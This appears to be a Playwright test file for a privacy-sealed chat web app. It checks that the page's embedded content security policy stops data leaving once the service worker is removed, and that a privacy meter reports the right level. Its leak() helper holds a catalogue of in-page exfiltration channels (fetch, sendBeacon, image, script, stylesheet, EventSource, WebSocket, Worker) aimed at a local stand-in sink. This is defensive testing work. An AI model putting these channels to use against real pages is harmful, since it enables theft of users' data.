import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFile } from 'node:fs/promises';
import { extname, join, normalize } from 'node:path';
import type { CDPSession, Page } from '@playwright/test';
import { prepareDevice, waitForSeal } from '../../scripts/browser/drive.ts';
import { headersFor } from '../../src/egress/headers.ts';
import { modelHosts } from '../../src/egress/model-hosts.ts';
import { expect, test } from './airlock.ts';

// What the seal rests on is given no second try.
test.describe.configure({ retries: 0 });

/*
 * Seen to fail: on the build without the policy in its HTML the text reached the stranger, by POST and in an address.
 */

const types: Record<string, string> = {
  '.html': 'text/html',
  '.js': 'text/javascript',
  '.css': 'text/css',
  '.wasm': 'application/wasm',
};

/** Serves the build as the plainest host does: the file and its type. */
async function servePlain(port: number): Promise<Server> {
  const server = createServer(async (request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://localhost');
    const path = normalize(pathname === '/' ? '/index.html' : pathname);
    try {
      const body = await readFile(join('dist', path));
      response.setHeader('Content-Type', types[extname(path)] ?? 'application/octet-stream');
      response.end(body);
    } catch {
      response.writeHead(404).end();
    }
  });
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return server;
}

/** What no script in the page can do any more: as if a way had been found. */
async function unregister(session: CDPSession, origin: string): Promise<void> {
  await session.send('Storage.clearDataForOrigin', { origin, storageTypes: 'service_workers' });
}

/** Tries to send a text from the page to a stranger, in the ways that no list of connections stops. Runs in the page. */
async function leak(page: Page, sink: string): Promise<void> {
  await page.evaluate(async (to) => {
    const tries: (() => unknown)[] = [
      () => fetch(`${to}/post`, { method: 'POST', mode: 'no-cors', body: 'secret' }),
      () => fetch(`${to}/get?secret`, { mode: 'no-cors' }),
      () => navigator.sendBeacon(`${to}/beacon`, 'secret'),
      () => (new Image().src = `${to}/image?secret`),
      () => document.head.append(Object.assign(document.createElement('script'), { src: `${to}/script?secret` })),
      () =>
        document.head.append(
          Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${to}/style?secret` }),
        ),
      () => new EventSource(`${to}/events?secret`),
      () => new WebSocket(`${to.replace('http', 'ws')}/socket?secret`),
      () => new Worker(URL.createObjectURL(new Blob([`fetch('${to}/thread?secret', { mode: 'no-cors' })`]))),
    ];
    for (const run of tries) {
      try {
        await Promise.race([run(), new Promise((resolve) => setTimeout(resolve, 100))]);
      } catch {
        // refused at once
      }
    }
  }, sink);
}

test('on a host without headers the policy in the page holds when the guard is gone, and the meter claims a part only', async ({
  airlock,
}) => {
  const hits: string[] = [];
  const sink = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.end('caught');
  });
  await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
  const sinkOrigin = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`;
  const plain = await servePlain(0);
  const origin = `http://127.0.0.1:${(plain.address() as AddressInfo).port}`;
  try {
    await fetch(`${sinkOrigin}/control`);
    const { context } = await airlock.launch();
    const page = context.pages()[0] ?? (await context.newPage());
    await prepareDevice(page, origin);
    await waitForSeal(page);
    await expect(page.locator('[data-meter]')).toHaveAttribute('data-level', 'partial');

    await page.goto('about:blank');
    await unregister(await context.newCDPSession(page), origin);
    const response = await page.goto(`${origin}/`);
    expect(response?.fromServiceWorker()).toBe(false);
    expect(response?.headers()['content-security-policy']).toBeUndefined();
    // The chat page may have sent itself to the page that fetches: both are tried.
    for (const path of ['/', '/models.html']) {
      await page.goto(origin + path);
      await leak(page, sinkOrigin).catch(() => {}); // the page went on to the other one in the middle
    }
    await page.waitForTimeout(500);
    expect(hits).toEqual(['GET /control']);
  } finally {
    for (const server of [sink, plain]) {
      server.closeAllConnections();
      server.close();
    }
  }
});

/** Keeps an answer with these headers in the place of the chat page's, as setting the app up does. */
async function keepAnswer(page: Page, headers: Record<string, string>): Promise<void> {
  await page.evaluate(async (given) => {
    const name = (await caches.keys()).find((one) => one.startsWith('airlock-app-')) ?? '';
    const cache = await caches.open(name);
    const kept = await cache.match('/index.html');
    if (!kept) throw new Error('The chat page is not kept.');
    await cache.put(
      '/index.html',
      new Response(await kept.blob(), { headers: { 'Content-Type': 'text/html', ...given } }),
    );
  }, headers);
}

test('the meter says Sealed where the server was seen to send the headers, and else what it lacks', async ({
  airlock,
}) => {
  const { page } = await airlock.prepared();
  await waitForSeal(page);
  const meter = page.locator('[data-meter]');
  const whole = headersFor('/index.html', airlock.server.origin, modelHosts);
  const { 'Content-Security-Policy': _policy, ...part } = whole;
  const cases = [
    { headers: { ...whole, Date: 'now' }, level: 'browser', says: /^Privacy meter: Sealed\./ },
    { headers: { Date: 'now' }, level: 'partial', says: /Sealed in part\..*This site sends no headers/ },
    { headers: { ...part, Date: 'now' }, level: 'partial', says: /Sealed in part\..*only a part of its headers/ },
    { headers: {}, level: 'partial', says: /Sealed in part\..*not known here/ },
  ] as const;
  for (const { headers, level, says } of cases) {
    await keepAnswer(page, headers);
    await page.reload();
    await waitForSeal(page);
    await expect(meter).toHaveAttribute('data-level', level);
    await expect(meter).toHaveAttribute('aria-label', says);
  }
  await meter.click();
  await expect(page.getByRole('dialog')).toContainText('was not seen to send the headers that seal its pages');
});
